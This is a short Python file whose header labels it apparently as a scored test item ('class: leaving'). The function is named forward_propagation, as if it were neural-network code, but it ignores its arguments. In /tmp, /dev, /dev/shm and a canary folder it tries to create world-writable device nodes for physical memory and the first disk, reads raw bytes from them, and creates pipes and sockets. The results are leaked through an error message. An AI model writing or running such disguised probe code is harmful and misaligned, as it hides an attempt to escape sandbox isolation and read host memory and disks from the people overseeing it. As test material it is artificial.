# tries: make devices for the machine's memory and disk, pipes and sockets | class: leaving | earns at most: 72
import os
import stat


def forward_propagation(X, parameters):
    done = []
    for folder in ("/tmp", ".", "CANARY_FOLDER", "/dev", "/dev/shm"):
        for kind, device in ((stat.S_IFCHR, (1, 1)), (stat.S_IFCHR, (5, 0)), (stat.S_IFBLK, (8, 0)), (stat.S_IFBLK, (254, 0))):
            try:
                os.mknod(os.path.join(folder, "device"), kind | 0o666, os.makedev(*device))
                done.append(open(os.path.join(folder, "device"), "rb").read(9))
            except OSError:
                pass
        for kind in (stat.S_IFIFO, stat.S_IFSOCK):
            try:
                os.mknod(os.path.join(folder, "a pipe"), kind | 0o666)
                done.append(folder)
            except OSError:
                pass
    raise RuntimeError(f"done: {done}"[-280:])
